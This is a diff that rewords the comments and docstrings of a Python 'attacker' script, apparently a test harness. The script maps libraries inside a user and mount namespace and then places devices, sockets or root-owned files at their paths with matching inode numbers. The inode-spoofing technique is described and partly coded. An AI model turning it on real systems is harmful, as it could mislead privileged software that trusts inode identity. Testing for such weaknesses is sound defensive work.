@@ -1,12 +1,11 @@
-"""An attacker: a process that runs as nobody, in a user and mount namespace of its own, with libraries mapped. At the
-path of each library it then puts something else that has the library's inode number.
+"""An attacker that runs as nobody, in its own user and mount namespace, and maps libraries. Then the attacker puts
+something else at the path of each library, with the library's inode number.
 
     lays_files.py FOLDER LIBRARY TARGETS
 
-TARGETS has a device and a file of root's under each of the names below.
-
-The process prints "ready", or why it cannot attack here. It then calls the libraries' functions, which fault, until it is
-killed."""
+TARGETS has a device and a file of root under each of the names below. The process prints "ready", or the reason why it
+cannot attack here. Until it is killed, the process then calls the libraries' functions, which take page faults.
+"""
 
 import ctypes
 import os
@@ -48,7 +47,7 @@ def bind(source, target):
 
 
 def make_socket(path):
-    # A socket's path must be short.
+    # The path of a Unix socket must be short.
     os.chdir(os.path.dirname(path))
     with socket.socket(socket.AF_UNIX) as made:
         made.bind(os.path.basename(path))
@@ -60,7 +59,9 @@ def make_huge(path):
 
 
 def make(path, inode, how):
-    """Makes a file with this inode number, on a file system that counts its files."""
+    """Creates a file with this inode number. The file system must assign inode numbers in ascending order, as tmpfs
+    does.
+    """
     for _ in range(MOST_TRIES):
         how(path)
         found = os.lstat(path).st_ino
@@ -81,7 +82,7 @@ def main():
     mapped = {}
     for name in [*lays, *sorted(targets, key=lambda name: os.stat(targets[name]).st_ino)]:
         path = f"{folder}/{name}.so"
-        # A library that another file will replace gets that file's inode number.
+        # A library gets the inode number of the target that will replace it.
         inode = os.stat(targets[name]).st_ino if name in targets else 0
         make(path, inode, lambda at: shutil.copyfile(library, at))
         mapped[name] = (ctypes.CDLL(path), os.stat(path).st_ino)
